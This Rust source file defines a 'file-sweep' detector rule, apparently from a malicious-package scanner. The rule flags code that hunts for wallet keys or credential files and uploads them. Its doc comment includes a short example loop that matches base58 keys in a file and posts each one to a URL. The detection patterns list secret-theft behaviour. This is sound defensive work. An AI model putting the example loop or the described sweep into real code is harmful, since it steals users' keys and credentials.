//! Files looked through for keys, and sent.

use crate::facts::{Fact, Scope};
use crate::rule::detector;
use crate::subject::{Findings, Subject};
use crate::{Confidence, Severity};

detector! {
    /// Files are searched for keys of wallets, and data is sent.
    ///
    /// ## What it does
    /// Looks for functions that, with what they call, hold a pattern that finds private keys or
    /// addresses of wallets, and use the network; worse when they read files as well.
    ///
    /// ## Why is this bad?
    /// A copy of a logging library of 2025 worked as a logger, and with every rotated file searched
    /// for keys of wallets and posted them. It was there for four months.
    ///
    /// ## Example
    /// ```rust
    /// let key = Regex::new(r"[1-9A-HJ-NP-Za-km-z]{32,44}")?;
    /// for found in key.find_iter(&std::fs::read_to_string(path)?) {
    ///     ureq::post(url).send_string(found.as_str())?;
    /// }
    /// ```
    ///
    /// ## How to fix it
    /// A scanner for secrets reports to its user alone.
    FileSweep "file-sweep" Malice High High Stable
}

impl FileSweep {
    pub(crate) fn detect(subject: &Subject<'_>, findings: &mut Findings) {
        let condition = |scope: &Scope<'_>| {
            let reads = scope.any(&[Fact::FileRead, Fact::DirectoryWalk]);
            scope.has(Fact::WalletPattern)
                && scope.has(Fact::Network)
                && (scope.has(Fact::Upload) || reads)
        };
        for scope in subject.facts().scopes(3, condition) {
            let reads = scope.any(&[Fact::FileRead, Fact::DirectoryWalk]);
            let confidence = if reads && scope.has(Fact::Upload) {
                Confidence::High
            } else {
                Confidence::Medium
            };
            let places = scope.places(
                subject,
                &[
                    Fact::WalletPattern,
                    Fact::Upload,
                    Fact::Network,
                    Fact::FileRead,
                    Fact::DirectoryWalk,
                    Fact::ExfilEndpoint,
                ],
            );
            let message = format!(
                "{} looks for keys of wallets and uses the network",
                scope.unit.as_str()
            );
            findings
                .rated(&Self::RULE, Severity::High, confidence, message, places)
                .reached_as(&scope);
        }
        // Many files, and what people keep in them.
        let condition = |scope: &Scope<'_>| {
            scope.has(Fact::DirectoryWalk)
                && scope.has(Fact::Network)
                && scope.has(Fact::Upload)
                && scope.any(&[Fact::DotEnv, Fact::CredentialPath])
        };
        for scope in subject.facts().scopes(3, condition) {
            let places = scope.places(
                subject,
                &[
                    Fact::DirectoryWalk,
                    Fact::DotEnv,
                    Fact::CredentialPath,
                    Fact::Upload,
                    Fact::Network,
                ],
            );
            let message = format!(
                "{} looks through directories for secrets and sends data",
                scope.unit.as_str()
            );
            findings
                .rated(
                    &Self::RULE,
                    Severity::High,
                    Confidence::Medium,
                    message,
                    places,
                )
                .reached_as(&scope);
        }
    }
}
